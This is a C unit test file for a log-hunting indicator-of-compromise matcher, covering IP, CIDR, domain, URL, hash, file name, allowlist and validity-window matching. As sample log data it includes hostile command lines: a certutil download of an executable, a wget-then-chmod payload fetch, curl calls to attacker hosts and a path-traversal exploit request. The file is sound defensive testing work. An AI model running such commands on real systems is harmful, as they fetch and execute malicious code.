/*
 * test_ioc_match.c - type-exact matching: token boundaries, subdomains,
 * CIDR, URL normalisation, hashes lists, file names, validity windows,
 * allowlists, sides, and no allocation per event.
 */
#include "tt.h"

#include "logsource/field_types.h"
#include "trawl/arena.h"
#include "trawl/ioc.h"
#include "trawl/parse.h"

typedef struct hits {
    int n;
    char got[2048]; /* "type:value@token|…" */
    size_t len;
    uint8_t side;
} hits;

static int on_match(void *ctx, const tr_ioc_match *m)
{
    hits *h = ctx;
    h->n++;
    h->side = m->side;
    int k = snprintf(h->got + h->len, sizeof(h->got) - h->len, "%s:%.*s@%.*s|",
                     tr_ioc_type_name(m->indicator->type), TR_STR_FMT(m->indicator->value),
                     TR_STR_FMT(m->token));
    if (k > 0 && h->len + (size_t)k < sizeof(h->got))
        h->len += (size_t)k;
    return 0;
}

static tr_ioc_index *index_of(const char *feed, const char *allow)
{
    tr_ioc_opts o = { 0 };
    tr_ioc_builder *b;
    if (tr_ioc_builder_new(&o, &b) != TR_OK)
        return NULL;
    if (tr_ioc_builder_add_feed_mem(b, feed, strlen(feed), TR_IOCF_PLAIN, "t.txt", NULL) != TR_OK)
        return NULL;
    if (allow && tr_ioc_builder_add_allowlist_mem(b, allow, strlen(allow), "allow.txt") != TR_OK)
        return NULL;
    tr_ioc_index *x;
    return tr_ioc_builder_finish(b, &x) == TR_OK ? x : NULL;
}

static hits scan(const tr_ioc_index *x, tr_vtype t, const char *value)
{
    hits h;
    memset(&h, 0, sizeof(h));
    tr_ioc_scratch *s;
    if (tr_ioc_scratch_new(x, &s) != TR_OK)
        return h;
    tr_ioc_scan_value(x, s, t, tr_str_c(value), TR_TS_NONE, on_match, &h);
    tr_ioc_scratch_free(s);
    return h;
}

#define EXPECT(x, t, value, want)                                                                  \
    do {                                                                                           \
        hits h_ = scan((x), (t), (value));                                                         \
        CHECK_MSG(strcmp(h_.got, (want)) == 0, "%s: got \"%s\", want \"%s\"", (value), h_.got,     \
                  (want));                                                                         \
    } while (0)

TEST(ioc_match_ipv4_boundaries)
{
    tr_ioc_index *x = index_of("1.2.3.4\n10.10.0.0/16\n", NULL);
    CHECK(x);
    EXPECT(x, TR_T_IP, "1.2.3.4", "ipv4:1.2.3.4@1.2.3.4|");
    EXPECT(x, TR_T_IP, "::ffff:1.2.3.4", "ipv4:1.2.3.4@::ffff:1.2.3.4|");
    EXPECT(x, TR_T_IP, "11.2.3.45", "");
    EXPECT(x, TR_T_TEXT, "from 11.2.3.45 to 1.2.3.40", "");
    EXPECT(x, TR_T_TEXT, "conn ip=1.2.3.4:8080 ok", "ipv4:1.2.3.4@1.2.3.4|");
    EXPECT(x, TR_T_TEXT, "1.2.3.4.5 a1.2.3.4 1.2.3.4a", "");
    EXPECT(x, TR_T_TEXT, "(1.2.3.4), [1.2.3.4]", "ipv4:1.2.3.4@1.2.3.4|");
    EXPECT(x, TR_T_IP, "10.10.200.1", "cidr:10.10.0.0/16@10.10.200.1|");
    EXPECT(x, TR_T_IP, "10.11.0.1", "");
    EXPECT(x, TR_T_DOMAIN, "10.10.0.5", "cidr:10.10.0.0/16@10.10.0.5|"); /* Host: an address */
    EXPECT(x, TR_T_TEXT, "1.2.3.4 and again 1.2.3.4", "ipv4:1.2.3.4@1.2.3.4|"); /* once */
    tr_ioc_index_free(x);
}

TEST(ioc_match_ipv6)
{
    tr_ioc_index *x = index_of("2001:db8::1\n2001:db8:abcd::/48\n", NULL);
    CHECK(x);
    EXPECT(x, TR_T_IP, "2001:DB8:0::1", "ipv6:2001:db8::1@2001:DB8:0::1|");
    EXPECT(x, TR_T_TEXT, "peer [2001:db8::1]:443 closed", "ipv6:2001:db8::1@2001:db8::1|");
    EXPECT(x, TR_T_IP, "2001:db8:abcd:1::5", "cidr:2001:db8:abcd::/48@2001:db8:abcd:1::5|");
    EXPECT(x, TR_T_IP, "2001:db8::2", "");
    tr_ioc_index_free(x);
}

TEST(ioc_match_domain_boundaries)
{
    tr_ioc_index *x = index_of("evil.com\n", NULL);
    CHECK(x);
    EXPECT(x, TR_T_DOMAIN, "evil.com", "domain:evil.com@evil.com|");
    EXPECT(x, TR_T_DOMAIN, "a.evil.com", "domain:evil.com@a.evil.com|");
    EXPECT(x, TR_T_DOMAIN, "EVIL.COM.", "domain:evil.com@EVIL.COM|");
    EXPECT(x, TR_T_DOMAIN, "evil.com:8443", "domain:evil.com@evil.com|");
    EXPECT(x, TR_T_DOMAIN, "notevil.com", "");
    EXPECT(x, TR_T_DOMAIN, "evil.com.other.net", "");
    EXPECT(x, TR_T_DOMAIN, "evil.co", "");
    EXPECT(x, TR_T_TEXT, "ping notevil.com; nslookup evil.com.other.net", "");
    EXPECT(x, TR_T_TEXT, "nslookup x.Evil.Com.", "domain:evil.com@x.Evil.Com|");
    EXPECT(x, TR_T_TEXT, "curl https://cdn.evil.com/a.js", "domain:evil.com@cdn.evil.com|");
    EXPECT(x, TR_T_TEXT, "mail bob@evil.com", "domain:evil.com@evil.com|");
    EXPECT(x, TR_T_PATH, "C:\\evil.com", ""); /* a path is not a domain */
    tr_ioc_index_free(x);
}

TEST(ioc_match_text_certutil)
{
    tr_ioc_index *x = index_of("http://91.208.184.78/2.exe\n91.208.184.78\n2.exe\n", NULL);
    CHECK(x);
    EXPECT(x, TR_T_TEXT, "certutil -urlcache -split -f http://91.208.184.78/2.exe",
           "url:http://91.208.184.78/2.exe@http://91.208.184.78/2.exe|"
           "ipv4:91.208.184.78@91.208.184.78|filename:2.exe@2.exe|");
    EXPECT(x, TR_T_TEXT, "cmd /c \"certutil -f hxxp 91.208.184.78/2.exe\"",
           "url:http://91.208.184.78/2.exe@91.208.184.78/2.exe|"
           "ipv4:91.208.184.78@91.208.184.78|filename:2.exe@2.exe|");
    EXPECT(x, TR_T_TEXT, "run 12.exe now", "");
    tr_ioc_index_free(x);
    x = index_of("66.42.98.220\n", NULL);
    EXPECT(x, TR_T_TEXT, "cd /tmp; wget ftp://test:pw@66.42.98.220/bsd; chmod +x bsd",
           "ipv4:66.42.98.220@66.42.98.220|");
    EXPECT(x, TR_T_URL, "/vpn/../vpns/portal/scripts/newbm.pl?u=http://66.42.98.220/x",
           "ipv4:66.42.98.220@66.42.98.220|");
    tr_ioc_index_free(x);
}

TEST(ioc_match_url_normalisation)
{
    tr_ioc_index *x = index_of("hxxps://Evil[.]com:443/Gate.php?id=1\n", NULL);
    CHECK(x);
    const char *want = "url:https://evil.com/Gate.php?id=1@";
    hits h = scan(x, TR_T_URL, "http://EVIL.COM/Gate.php?id=1");
    CHECK_MSG(h.n == 1 && strncmp(h.got, want, strlen(want)) == 0, "%s", h.got);
    h = scan(x, TR_T_URL, "https://evil.com:443/%47ate.php?id=1#top");
    CHECK_MSG(h.n == 1, "%s", h.got);
    h = scan(x, TR_T_URL, "https://evil.com/gate.php?id=1"); /* path is case-sensitive */
    CHECK_EQ(h.n, 0);
    h = scan(x, TR_T_URL, "https://evil.com/Gate.php?id=2");
    CHECK_EQ(h.n, 0);
    tr_ioc_index_free(x);
}

TEST(ioc_match_url_joined_with_host)
{
    tr_ioc_index *x = index_of("http://evil.com/Gate.php\n", NULL);
    CHECK(x);
    tr_field f[3] = {
        { .name = TR_STR("host"), .value = TR_STR("evil.com"), .vtype = TR_T_DOMAIN,
          .side = TR_SIDE_DST },
        { .name = TR_STR("uri"), .value = TR_STR("/Gate.php"), .vtype = TR_T_URL,
          .side = TR_SIDE_DST },
        { .name = TR_STR("user"), .value = TR_STR("evil.com"), .vtype = TR_T_NONE },
    };
    tr_event ev;
    tr_event_init(&ev, f, 3, NULL);
    ev.nfields = 3;
    tr_ioc_scratch *s;
    CHECK(tr_ioc_scratch_new(x, &s) == TR_OK);
    hits h;
    memset(&h, 0, sizeof(h));
    tr_ioc_scan(x, s, &ev, on_match, &h);
    CHECK_MSG(h.n == 1 && strstr(h.got, "url:http://evil.com/Gate.php@evil.com/Gate.php"), "%s",
              h.got);
    CHECK_EQ(h.side, TR_SIDE_DST);
    tr_ioc_scratch_free(s);
    tr_ioc_index_free(x);
}

TEST(ioc_match_hashes)
{
    tr_ioc_index *x = index_of("d41d8cd98f00b204e9800998ecf8427e\n"
                               "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855\n",
                               NULL);
    CHECK(x);
    EXPECT(x, TR_T_HASH, "D41D8CD98F00B204E9800998ECF8427E",
           "md5:d41d8cd98f00b204e9800998ecf8427e@D41D8CD98F00B204E9800998ECF8427E|");
    EXPECT(x, TR_T_HASHES,
           "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E,"
           "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,"
           "IMPHASH=00000000000000000000000000000000",
           "md5:d41d8cd98f00b204e9800998ecf8427e@D41D8CD98F00B204E9800998ECF8427E|"
           "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855@"
           "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855|");
    /* an IMPHASH equal to an MD5 indicator is not a file MD5 */
    EXPECT(x, TR_T_HASHES, "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,"
                           "IMPHASH=D41D8CD98F00B204E9800998ECF8427E", "");
    /* a longer hex run is not the digest */
    EXPECT(x, TR_T_TEXT, "x d41d8cd98f00b204e9800998ecf8427e00 y", "");
    EXPECT(x, TR_T_TEXT, "md5=d41d8cd98f00b204e9800998ecf8427e",
           "md5:d41d8cd98f00b204e9800998ecf8427e@d41d8cd98f00b204e9800998ecf8427e|");
    tr_ioc_index_free(x);
}

TEST(ioc_match_filenames_and_email)
{
    tr_ioc_index *x = index_of("install.bat\nbsd.exe\nbad@evil.com\n", NULL);
    CHECK(x);
    EXPECT(x, TR_T_PATH, "C:\\Windows\\Temp\\INSTALL.BAT", "filename:install.bat@INSTALL.BAT|");
    EXPECT(x, TR_T_PATH, "/tmp/install.bat", "filename:install.bat@install.bat|");
    EXPECT(x, TR_T_PATH, "C:\\x\\notinstall.bat", "");
    EXPECT(x, TR_T_PATH, "C:\\install.bat\\other.txt", "");
    EXPECT(x, TR_T_TEXT, "cmd.exe /c C:\\Users\\Public\\install.bat -q",
           "filename:install.bat@install.bat|");
    EXPECT(x, TR_T_FILENAME, "Install.Bat", "filename:install.bat@Install.Bat|");
    EXPECT(x, TR_T_TEXT, "From: <BAD@evil.com>", "email:bad@evil.com@BAD@evil.com|");
    EXPECT(x, TR_T_TEXT, "notbad@evil.com", "");
    tr_ioc_index_free(x);
}

/* One scratch for many events, as in a hunt: values remembered as matching
 * nothing never hide a match of the same bytes in another context (a
 * request URI under another host) nor of other bytes. */
TEST(ioc_match_remembered_misses_never_hide_hits)
{
    tr_ioc_index *x = index_of("http://evil.com/Gate.php\nevil.net\n", NULL);
    CHECK(x);
    tr_ioc_scratch *s;
    CHECK(tr_ioc_scratch_new(x, &s) == TR_OK);
    tr_field f[2] = {
        { .name = TR_STR("host"), .vtype = TR_T_DOMAIN, .side = TR_SIDE_DST },
        { .name = TR_STR("uri"), .value = TR_STR("/Gate.php"), .vtype = TR_T_URL },
    };
    tr_event ev;
    tr_event_init(&ev, f, 2, NULL);
    ev.nfields = 2;
    const char *hosts[] = { "good.com", "good.com", "evil.com", "good.com", "evil.com" };
    int want[] = { 0, 0, 1, 0, 1 };
    for (size_t i = 0; i < TR_ARRAY_LEN(hosts); i++) {
        f[0].value = tr_str_c(hosts[i]);
        hits h;
        memset(&h, 0, sizeof(h));
        tr_ioc_scan(x, s, &ev, on_match, &h);
        CHECK_MSG(h.n == want[i], "host %s: %d matches (%s)", hosts[i], h.n, h.got);
    }
    char longv[400];
    memset(longv, 'a', sizeof(longv));
    memcpy(longv + 300, " evil.net ", 10);
    longv[sizeof(longv) - 1] = '\0';
    const char *texts[] = { "nothing here a.b", "nothing here a.b", "nothing here evil.net",
                            "get www.evil.net now", "get www.evil.net now", longv, longv,
                            "nothing here a.b" };
    int twant[] = { 0, 0, 1, 1, 1, 1, 1, 0 };
    for (size_t i = 0; i < TR_ARRAY_LEN(texts); i++) {
        hits h;
        memset(&h, 0, sizeof(h));
        tr_ioc_scan_value(x, s, TR_T_TEXT, tr_str_c(texts[i]), TR_TS_NONE, on_match, &h);
        CHECK_MSG(h.n == twant[i], "text %zu: %d matches (%s)", i, h.n, h.got);
    }
    tr_ioc_scratch_free(s);
    tr_ioc_index_free(x);
}

TEST(ioc_match_validity_window)
{
    tr_ioc_builder *b;
    CHECK(tr_ioc_builder_new(NULL, &b) == TR_OK);
    tr_indicator ind = { .value = TR_STR("evil.com"), .feed = TR_STR("f"), .actor = TR_STR("APT41"),
                         .confidence = 80, .first_seen = TR_TS_NONE, .last_seen = TR_TS_NONE,
                         .valid_from = 1000, .valid_until = 2000 };
    CHECK(tr_ioc_builder_add(b, &ind, NULL) == TR_OK);
    tr_ioc_index *x;
    CHECK(tr_ioc_builder_finish(b, &x) == TR_OK);
    tr_ioc_scratch *s;
    CHECK(tr_ioc_scratch_new(x, &s) == TR_OK);
    int64_t ts[] = { 999, 1000, 1999, 2000, TR_TS_NONE };
    int want[] = { 0, 1, 1, 0, 1 };
    for (size_t i = 0; i < TR_ARRAY_LEN(ts); i++) {
        hits h;
        memset(&h, 0, sizeof(h));
        tr_ioc_scan_value(x, s, TR_T_DOMAIN, TR_STR("evil.com"), ts[i], on_match, &h);
        CHECK_MSG(h.n == want[i], "ts %" PRId64 ": %d matches", ts[i], h.n);
    }
    tr_ioc_scratch_free(s);
    tr_indicator got;
    tr_ioc_index_get(x, 0, &got);
    CHECK_SLICE(got.actor, "APT41");
    CHECK_EQ(got.confidence, 80);
    tr_ioc_index_free(x);
}

TEST(ioc_match_allowlist)
{
    tr_ioc_index *x = index_of("8.8.8.8\nevil.com\n1.2.3.4\n",
                               "# benign\n8.8.8.0/24\ngood.evil.com\n1.2.3.4\n");
    CHECK(x);
    tr_ioc_stats st;
    tr_ioc_index_stats(x, &st);
    CHECK_EQ(st.allowlisted, 2);
    CHECK_EQ(st.total, 1);
    CHECK_EQ(st.allowlist_entries, 3);
    EXPECT(x, TR_T_IP, "8.8.8.8", "");
    EXPECT(x, TR_T_DOMAIN, "a.evil.com", "domain:evil.com@a.evil.com|");
    EXPECT(x, TR_T_DOMAIN, "x.good.evil.com", "");
    EXPECT(x, TR_T_DOMAIN, "good.evil.com", "");
    tr_ioc_index_free(x);
}

static int count_only(void *ctx, const tr_ioc_match *m)
{
    TR_UNUSED(m);
    (*(int *)ctx)++;
    return 0;
}

TEST(ioc_match_no_allocation_per_event)
{
    tr_ioc_index *x = index_of("1.2.3.4\nevil.com\nhttp://evil.com/a\nd41d8cd98f00b204e9800998ecf8427e"
                               "\n2.exe\nbad@evil.com\n10.0.0.0/8\n",
                               "good.evil.com\n");
    CHECK(x);
    tr_ioc_scratch *s;
    CHECK(tr_ioc_scratch_new(x, &s) == TR_OK);
    tr_field f[] = {
        { .name = TR_STR("c-ip"), .value = TR_STR("10.1.2.3"), .vtype = TR_T_IP,
          .side = TR_SIDE_SRC },
        { .name = TR_STR("cs-host"), .value = TR_STR("a.evil.com"), .vtype = TR_T_DOMAIN },
        { .name = TR_STR("cs-uri"), .value = TR_STR("/a?x=http://1.2.3.4/2.exe"),
          .vtype = TR_T_URL },
        { .name = TR_STR("cmd"), .value = TR_STR("certutil -f http://evil.com/a bad@evil.com "
                                                 "D41D8CD98F00B204E9800998ECF8427E"),
          .vtype = TR_T_TEXT },
        { .name = TR_STR("esc"), .value = TR_STR("C:\\\\Temp\\\\2.exe"), .vtype = TR_T_PATH,
          .flags = TR_FIELD_ESCAPED },
    };
    tr_event ev;
    tr_event_init(&ev, f, TR_ARRAY_LEN(f), NULL);
    ev.nfields = TR_ARRAY_LEN(f);
    ev.ts = 1;
    int n = 0;
    tr_ioc_scan(x, s, &ev, count_only, &n); /* warm-up */
    CHECK_MSG(n >= 8, "%d matches", n);
    uint64_t before = tr_alloc_count();
    for (int i = 0; i < 1000; i++)
        tr_ioc_scan(x, s, &ev, count_only, &n);
    CHECK_EQ(tr_alloc_count() - before, 0);
    tr_ioc_scratch_free(s);
    tr_ioc_index_free(x);
}

typedef struct det_ctx {
    int n;
    tr_ioc_match m;
    tr_indicator ind;
} det_ctx;

static int keep_last(void *ctx, const tr_ioc_match *m)
{
    det_ctx *c = ctx;
    c->m = *m;
    c->ind = *m->indicator;
    c->m.indicator = &c->ind;
    c->n++;
    return 0;
}

/* The real decoders + the typing table + the scan: a web access log line
 * with an exploit payload, and a Zeek conn line to a C2 address. */
TEST(ioc_match_through_parser_and_types)
{
    tr_ioc_index *x = index_of("66.42.98.220\n91.208.184.78\n", NULL);
    CHECK(x);
    tr_ioc_scratch *s;
    CHECK(tr_ioc_scratch_new(x, &s) == TR_OK);
    tr_arena *arena = tr_arena_new(0, 0);
    tr_field fields[64];
    tr_event ev;
    tr_event_init(&ev, fields, 64, arena);
    tr_parser *p;
    CHECK(tr_parser_new(TR_FMT_COMBINED, NULL, &p) == TR_OK);
    const char *line = "66.42.98.220 - - [20/Jan/2020:08:14:02 +0000] \"POST "
                       "/vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 143 \"-\" "
                       "\"curl http://91.208.184.78/2.exe\"";
    ev.path = TR_STR("access.log");
    CHECK(tr_parser_parse(p, tr_str_c(line), &ev) == TR_OK);
    tr_field_types_apply(&ev);
    det_ctx c = { 0 };
    tr_ioc_scan(x, s, &ev, keep_last, &c);
    CHECK_EQ(c.n, 2); /* c-ip (source) and the address in the user agent */
    tr_parser_free(p);

    CHECK(tr_parser_new(TR_FMT_ZEEK, NULL, &p) == TR_OK);
    const char *hdr[] = { "#separator \\x09", "#path\tconn",
                          "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto" };
    for (size_t i = 0; i < 3; i++) {
        tr_event_reset(&ev);
        (void)tr_parser_parse(p, tr_str_c(hdr[i]), &ev);
    }
    tr_event_reset(&ev);
    CHECK(tr_parser_parse(p, TR_STR("1579508042.0\tCx1\t10.1.2.3\t49152\t91.208.184.78\t443\ttcp"),
                          &ev) == TR_OK);
    tr_field_types_apply(&ev);
    memset(&c, 0, sizeof(c));
    tr_ioc_scan(x, s, &ev, keep_last, &c);
    CHECK_EQ(c.n, 1);
    CHECK_SLICE(c.ind.value, "91.208.184.78");
    CHECK_EQ(c.ind.type, TR_IOC_IPV4);
    CHECK_SLICE(c.m.field->name, "id.resp_h");
    CHECK_EQ(c.m.side, TR_SIDE_DST);
    CHECK_SLICE(c.m.token, "91.208.184.78");
    tr_parser_free(p);
    tr_arena_free(arena);
    tr_ioc_scratch_free(s);
    tr_ioc_index_free(x);
}
